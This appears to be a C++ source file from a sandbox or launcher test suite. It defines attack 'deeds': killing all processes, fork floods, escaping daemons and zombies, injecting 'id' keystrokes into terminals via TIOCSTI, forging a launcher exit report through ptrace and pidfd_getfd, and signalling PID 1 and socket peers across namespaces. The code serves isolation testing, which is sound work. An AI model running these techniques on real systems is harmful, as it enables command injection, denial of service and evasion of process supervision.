// SPDX-License-Identifier: Apache-2.0
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <initializer_list>
#include <string>

namespace attack {
namespace {

// SIGTERM to each pid that is named; "all" also to everybody (only for a sealed attempt).
void signalProcesses(Words words)
{
    for (int i = 0; i < words.count; ++i) {
        if (std::strcmp(words.at(i), "all") == 0) {
            ::signal(SIGTERM, SIG_IGN);
            ::kill(-1, SIGTERM);
            for (int pid = 1; pid < 64; ++pid)
                ::kill(pid, SIGTERM);
            continue;
        }
        const auto pid = static_cast<pid_t>(words.number(i));
        ::kill(pid, SIGTERM);
        const int handle = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
        ::syscall(SYS_pidfd_send_signal, handle, SIGTERM, nullptr, 0);
        ::syscall(SYS_tgkill, pid, pid, SIGTERM);
    }
}

void listProcesses(Words)
{
    DIR *all = ::opendir("/proc");
    while (const dirent *entry = all ? ::readdir(all) : nullptr) {
        const std::string path = std::string("/proc/") + entry->d_name + "/cmdline";
        const int fd = ::open(path.c_str(), O_RDONLY);
        char part[4096];
        const ssize_t n = fd < 0 ? 0 : ::read(fd, part, sizeof part);
        if (n > 0)
            say(part, static_cast<std::size_t>(n));
        ::close(fd);
    }
}

void waitQuietly(Words)
{
    stay();
}

void forkMany(Words words)
{
    const long count = std::min(300L, words.number(0));
    for (long i = 0; i < count; ++i) {
        if (::fork() == 0)
            stay();
    }
    ::usleep(100'000);
}

// The main program ends at once; what it started does not.
void leaveDaemon(Words)
{
    if (::fork() == 0) {
        ::setsid();
        if (::fork() == 0) {
            ::close(0);
            ::close(1);
            ::close(2);
            stay();
        }
        ::_exit(0);
    }
    ::wait(nullptr);
    ::_exit(0);
}

void ignoreSignals(Words)
{
    for (int number = 1; number < 65; ++number)
        ::signal(number, SIG_IGN);
    if (::fork() == 0) { // one that can't even answer
        say("ready\n");
        ::raise(SIGSTOP);
        stay();
    }
    stay();
}

// Nobody fetches their end; their parent outlives the main program.
void leaveZombies(Words words)
{
    const long count = std::min(200L, words.number(0));
    if (::fork() == 0) {
        ::setsid();
        for (long i = 0; i < count; ++i) {
            if (::fork() == 0)
                ::_exit(0);
        }
        stay();
    }
    ::usleep(100'000);
    ::_exit(0);
}

// Into every terminal that it has: the host looks what somebody seems to have typed.
void typeIntoTerminals(Words)
{
    for (const char *path : {"/dev/tty", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/console", "/dev/tty0"}) {
        const int fd = ::open(path, O_RDWR | O_NONBLOCK);
        for (unsigned long command : {0x5412UL, 0x5412UL | (1UL << 32)}) {
            for (const char *key = "id"; *key; ++key) {
                for (int terminal : {fd, 0, 1, 2})
                    ::syscall(SYS_ioctl, terminal, command, key);
            }
        }
        ::close(fd);
    }
    ::_exit(0); // who reads on would take back what it typed
}

// PID KIND FROM TO: descriptors to try. Ends with 7. A forged report of PID 1 would say 0: its message is MainExited of
// engine/launcher/protocol.h.
void forgeReport(Words words)
{
    struct [[gnu::packed]]
    {
        unsigned char kind;
        int status;
        unsigned long long started;
    } report{static_cast<unsigned char>(words.number(1)), 0, 1};
    const auto pid = static_cast<pid_t>(words.number(0));
    const int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
    ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr);
    for (long number = words.number(2); number < words.number(3); ++number) {
        const std::string path = "/proc/" + std::to_string(pid) + "/fd/" + std::to_string(number);
        for (int fd : {::open(path.c_str(), O_RDWR), static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0)),
                       static_cast<int>(number)})
            ::send(fd, &report, sizeof report, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
    ::usleep(50'000);
    ::_exit(7);
}

// Who made the other end of what was inherited can be named by a pidfd (Linux 6.5), also across pid namespaces.
void signalPeers(Words)
{
    constexpr int peerPidfd = 77; // SO_PEERPIDFD
    for (int fd = 0; fd < 64; ++fd) {
        int process = -1;
        socklen_t size = sizeof process;
        if (::getsockopt(fd, SOL_SOCKET, peerPidfd, &process, &size) < 0)
            continue;
        ::syscall(SYS_pidfd_send_signal, process, SIGUSR1, nullptr, 0);
        ucred peer{};
        size = sizeof peer;
        if (::getsockopt(fd, SOL_SOCKET, SO_PEERCRED, &peer, &size) == 0 && peer.pid > 0)
            ::kill(peer.pid, SIGUSR1);
    }
}

// A signal that only an outer namespace may send to PID 1 of an inner one, through the kernel's own hands.
void endFirstProcess(Words)
{
    int ends[2];
    ::signal(SIGIO, SIG_IGN);
    if (::pipe(ends) < 0)
        return;
    ::fcntl(ends[0], F_SETOWN, 1);
    ::fcntl(ends[0], 10 /* F_SETSIG */, SIGSTOP);
    ::fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (::write(ends[1], "x", 1) < 0)
        return;
    for (int number : {SIGSTOP, SIGTERM, SIGHUP, SIGINT, SIGQUIT, SIGSEGV})
        ::kill(1, number);
    ::setpriority(PRIO_PROCESS, 1, 19);
}

void becomeRealtime(Words)
{
    sched_param parameter{};
    parameter.sched_priority = 1;
    ::sched_setscheduler(0, SCHED_FIFO, &parameter);
    ::setpriority(PRIO_PROCESS, 0, -10);
}

} // namespace

const Deed processDeeds[] = {
    {"signal", signalProcesses},
    {"list-processes", listProcesses},
    {"wait", waitQuietly},
    {"fork", forkMany},
    {"daemon", leaveDaemon},
    {"ignore", ignoreSignals},
    {"zombies", leaveZombies},
    {"type", typeIntoTerminals},
    {"forge-report", forgeReport},
    {"signal-peers", signalPeers},
    {"end-first", endFirstProcess},
    {"realtime", becomeRealtime},
    {nullptr, nullptr},
};

} // namespace attack
